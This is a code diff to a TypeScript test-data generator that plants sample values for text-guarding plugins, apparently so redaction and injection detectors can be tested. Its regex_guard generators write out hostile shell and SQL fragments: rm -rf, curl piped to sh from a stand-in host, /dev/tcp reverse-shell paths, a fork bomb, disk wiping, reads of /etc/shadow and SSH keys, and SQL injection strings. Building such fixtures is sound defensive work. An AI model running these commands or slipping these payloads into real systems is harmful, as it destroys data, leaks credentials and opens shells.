@@ -74,8 +74,39 @@ const pem = (random: Random) => {
   ].join(pick(random, ["\n", "\r\n"]));
 };
 
+/** The plugins that are tried. */
+export type Guarding = "pii" | "secrets" | "regex_guard" | "text_replace";
+
+/** Configs of those that look for nothing, or not for all of this, by themselves. */
+export const configs = {
+  pii: { action: "redact", min_confidence: 0.6 },
+  secrets: { action: "redact" },
+  regex_guard: {
+    action: "redact",
+    sets: ["shell_injection", "sql_injection"],
+    patterns: [
+      { name: "ticket", pattern: "\\bINT-[0-9]{6}\\b" },
+      { name: "host", pattern: "\\b[a-z0-9-]+\\.corp\\.example\\b" },
+      { name: "stretch", pattern: "(?s)<private>.*?</private>" },
+    ],
+  },
+  text_replace: {
+    replacements: [
+      { name: "word", text: "Falcon", with: "it" },
+      { name: "phrase", text: "Project Falcon", with: "the project" },
+      { name: "longer_phrase", text: "Project Falcon Heavy", with: "" },
+      { name: "any_case", text: "blue heron straße", with: "a bird", ignore_case: true },
+      { name: "pattern", pattern: "(?i)\\bbuild[ -]?[0-9]{3,8}\\b", with: "[build]" },
+    ],
+  },
+} as const satisfies Record<Guarding, object>;
+
+/** Letters in either case. */
+const anyCase = (random: Random, text: string) =>
+  [...text].map((letter) => (random(2) === 0 || letter === "ß" ? letter : letter.toUpperCase())).join("");
+
 /** By plugin, by type: how its values are made. */
-export const generators: Readonly<Record<"pii" | "secrets", Readonly<Record<string, Generator>>>> = {
+export const generators: Readonly<Record<Guarding, Readonly<Record<string, Generator>>>> = {
   pii: {
     email: (r) =>
       `${some(r, number(r, 1, 12), `${lower}${digits}`)}${pick(r, ["", ".x1", "+tag"])}@${some(r, number(r, 2, 12), lower)}.${pick(r, ["com", "co.uk", "example.org", "io"])}`,
@@ -139,10 +170,37 @@ export const generators: Readonly<Record<"pii" | "secrets", Readonly<Record<stri
     authorization_header: (r) => ["Authorization: Bearer ", token(r, 40)],
     high_entropy: (r) => [pick(r, ['password = "', "api_key: ", "SECRET=", 'token is "']), token(r, number(r, 12, 40))],
   },
+  regex_guard: {
+    ticket: (r) => `INT-${some(r, 6, digits)}`,
+    host: (r) => `${some(r, number(r, 1, 20), `${lower}${digits}`)}.corp.example`,
+    stretch: (r) => `<private>${some(r, number(r, 0, 200), `${lower} \n<`)}</private>`,
+    shell_remove: (r) => anyCase(r, pick(r, ["rm -rf", "rm  -v -fr", "rm -r -f", "rm --no-preserve-root"])),
+    shell_download_and_run: (r) =>
+      `${pick(r, ["curl -s", "wget"])} https://${some(r, number(r, 3, 40), lower)}.example/x |${pick(r, ["", " ", " sudo "])}${pick(r, ["sh", "bash", "python3"])}`,
+    shell_reverse: (r) => `/dev/${pick(r, ["tcp", "udp"])}/10.0.${r(256)}.${r(256)}/${r(10)}`,
+    shell_fork_bomb: (r) => pick(r, [":(){ :|:& };:", ": (){:|:&};:"]),
+    shell_overwrite_disk: (r) => pick(r, ["mkfs.ext4 /dev/", "dd if=/dev/zero of=/dev/s", "> /dev/sda"]),
+    shell_credentials: (r) =>
+      `${pick(r, ["cat", "head -n 3", "scp"])} ${pick(r, ["/etc/passwd", "/etc/shadow", "~/.ssh/id_"])}`,
+    shell_substitution: (r) => pick(r, ["$(whoami);", "$( curl x.example )|", "`id`&"]),
+    sql_union: (r) => anyCase(r, pick(r, ["' union select", "') union all select", "7 union  select"])),
+    sql_tautology: (r) => anyCase(r, pick(r, ["' or 1=1", "') and 'a'='", "' or true"])),
+    sql_stacked: (r) => anyCase(r, pick(r, ["'; drop table", "1; delete from", "') ; update users set"])),
+    sql_comment: (r) => pick(r, ["n'; --", "n') ;--", "n' /*"]),
+    sql_delay: (r) => anyCase(r, pick(r, ["and sleep(5", "select pg_sleep( 9", "waitfor delay '"])),
+    sql_files_and_commands: (r) => anyCase(r, pick(r, ["xp_cmdshell", "into outfile '", "load_file('"])),
+  },
+  text_replace: {
+    word: () => "Falcon",
+    phrase: () => "Project Falcon",
+    longer_phrase: () => "Project Falcon Heavy",
+    any_case: (r) => anyCase(r, "blue heron straße"),
+    pattern: (r) => `${anyCase(r, "build")}${pick(r, ["", " ", "-"])}${some(r, number(r, 3, 8), digits)}`,
+  },
 };
 
 /** Makes so many plants of a type; the same for the same seed. */
-export function plantsOf(plugin: keyof typeof generators, type: string, count: number, seed: number): Plant[] {
+export function plantsOf(plugin: Guarding, type: string, count: number, seed: number): Plant[] {
   const random = createRandom(seed);
   return Array.from({ length: count }, () => {
     const made = generators[plugin][type]!(random);
